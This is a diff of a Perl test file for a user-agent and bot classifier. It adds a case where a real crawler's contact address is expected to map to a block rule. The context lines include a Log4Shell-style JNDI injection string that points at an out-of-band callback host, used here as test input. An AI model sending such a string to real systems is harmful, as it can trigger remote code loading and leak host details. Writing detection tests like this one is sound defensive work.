@@ -56,7 +56,9 @@ my @cases = (
 	# an unknown self-declared bot: named by its token, counted as a crawler
 	[ 'Mozilla/5.0 (compatible; Rivetbot/1.0)', 'Rivetbot unknown-bot unverified allow' ],
 	# ... or by the other signals: a contact, code where a name goes, a script's shape
-	[ 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/59.0 Safari/537.36; +collection@infegy.com', 'infegy.com unknown-bot unverified allow' ],
+	[ 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/59.0 Safari/537.36; +collection@brightleaf.example', 'brightleaf.example unknown-bot unverified allow' ],
+	# (the same string with Infegy's address names Infegy, a social-listening crawler the catalogue holds)
+	[ 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/59.0 Safari/537.36; +collection@infegy.com', 'Infegy seo unverified block-444' ],
 	[ '${jndi:ldap://${hostName}.useragent.example.oast.live}', 'unknown-bot unknown-bot unverified allow' ],
 	[ 'Hakai/2.0', 'Hakai unknown-bot unverified allow' ],
 	[ 'Mozilla/5.0 (compatible; Crusader/1.0)', 'Crusader unknown-bot unverified allow' ],
